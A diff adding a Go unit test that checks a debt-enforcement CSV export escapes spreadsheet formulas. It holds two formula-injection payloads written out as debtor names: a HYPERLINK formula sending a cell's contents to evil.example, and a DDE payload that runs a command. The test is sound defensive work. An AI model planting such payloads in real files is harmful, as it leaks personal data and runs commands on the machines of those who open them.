@@ -53,6 +53,29 @@ func TestEnforcementCSV(t *testing.T) {
 	}, records)
 }
 
+// A debtor's name that a spreadsheet would evaluate (it passes the checks of a debt: printable,
+// one line) comes out as text, with the apostrophe that tells the spreadsheet so.
+func TestEnforcementCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	rows := handovers()
+	rows[0].DebtorName = `=HYPERLINK("http://evil.example/?cf="&C2,"Rossi Mario")`
+	rows[1].DebtorName = "@SUM(1+1)*cmd|' /C calc'!A0"
+	var buf bytes.Buffer
+	require.NoError(t, reminders.EnforcementCSV(&buf, rows))
+	require.Contains(t, buf.String(), `;"'=HYPERLINK(""http://evil.example/?cf=""&C2,""Rossi Mario"")";`)
+	r := csv.NewReader(strings.NewReader(buf.String()))
+	r.Comma = ';'
+	records, err := r.ReadAll()
+	require.NoError(t, err)
+	require.Equal(t, `'=HYPERLINK("http://evil.example/?cf="&C2,"Rossi Mario")`, records[1][3])
+	require.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", records[2][3])
+	for _, record := range records {
+		for _, cell := range record {
+			require.NotContains(t, "=+-@\t\r", cell[:1], "no cell starts a formula: %q", cell)
+		}
+	}
+}
+
 func TestEnforcementCSVEmpty(t *testing.T) {
 	t.Parallel()
 	var buf bytes.Buffer
